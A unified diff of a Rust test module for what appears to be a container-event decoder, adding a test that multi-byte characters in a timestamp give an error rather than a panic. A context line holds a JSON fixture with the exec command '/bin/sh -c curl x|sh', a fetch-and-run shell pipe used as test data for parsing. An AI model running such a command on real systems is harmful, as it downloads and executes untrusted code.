@@ -272,6 +272,19 @@ mod tests {
     }
 
     #[test]
+    fn a_multibyte_timestamp_is_a_bad_timestamp_not_a_panic() {
+        // Found by the malformed-input suite: a time field ending in multi-byte
+        // characters made the offset fix-up slice inside a character.
+        let mut out = Vec::new();
+        let r = decode_text("ü€𝄞 container create abc (image=x)", &ctx(), &mut out);
+        assert!(
+            matches!(&r, Err(DecodeError::Time(t)) if t == "ü€𝄞"),
+            "{r:?}"
+        );
+        assert!(out.is_empty());
+    }
+
+    #[test]
     fn exec_command_rides_in_action() {
         let e = one_json(
             r#"{"Type":"container","Action":"exec_start: /bin/sh -c curl x|sh","Actor":{"ID":"abc","Attributes":{"execID":"1"}},"timeNano":7}"#,
